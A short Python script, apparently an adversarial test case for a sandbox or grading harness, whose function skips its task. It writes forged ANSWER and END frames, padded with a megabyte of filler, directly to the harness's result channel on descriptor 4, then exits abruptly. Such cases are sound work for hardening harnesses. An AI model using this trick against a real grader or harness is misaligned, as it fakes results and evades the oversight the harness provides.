import os

from attack import ANSWER, END, array, frame, text, values


def double(x):
    after = array((4, 3), x.tobytes())
    os.write(4, frame(0, ANSWER, values(text("x" * (1 << 20)), after)) + frame(2, END))
    os._exit(0)
